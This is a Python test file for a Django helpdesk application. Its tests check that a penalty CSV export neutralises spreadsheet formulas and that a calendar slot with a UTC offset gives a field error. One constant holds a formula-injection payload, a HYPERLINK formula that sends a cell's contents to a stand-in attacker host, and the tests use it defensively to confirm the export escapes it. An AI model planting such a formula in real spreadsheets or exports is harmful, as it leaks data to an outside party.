"""Issue 13: the penalty CSV neutralises spreadsheet formulas (a case subject starting with
``=HYPERLINK(`` stays text), and an opening time with a UTC offset is a field error, not a
server error."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse

from helpline.cases.models import Case
from helpline.desk.tests.helpers import client_for
from helpline.sla.tests.test_api import CAL, admin_api, post
from helpline.sla.tests.test_desk_screens import breached_month  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_formula_in_a_case_title_stays_text_in_the_penalty_csv(
    tenant_a: Any,
    breached_month: Case,  # noqa: F811 (the imported fixture)
) -> None:
    Case.objects.filter(pk=breached_month.pk).update(title=EVIL)
    url = reverse("sla:statement_csv", args=[tenant_a.org.slug])
    body = client_for(tenant_a.supervisor).get(url, {"month": "2026-03"}).content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    titles = [row[1] for row in rows[1:] if row and row[0] == breached_month.protocol_number]
    assert titles and all(t == "'" + EVIL for t in titles)
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_an_opening_time_with_a_utc_offset_is_a_field_error(tenant_a: Any) -> None:
    body = {**CAL, "slots": [{"weekday": 0, "start": "08:00+02:00", "end": "12:00"}]}
    r = post(admin_api(tenant_a), "/api/v1/sla/calendars", body)
    assert r.status_code == 422, r.content
    assert "slots[0].start" in r.content.decode() or "slots" in r.content.decode()
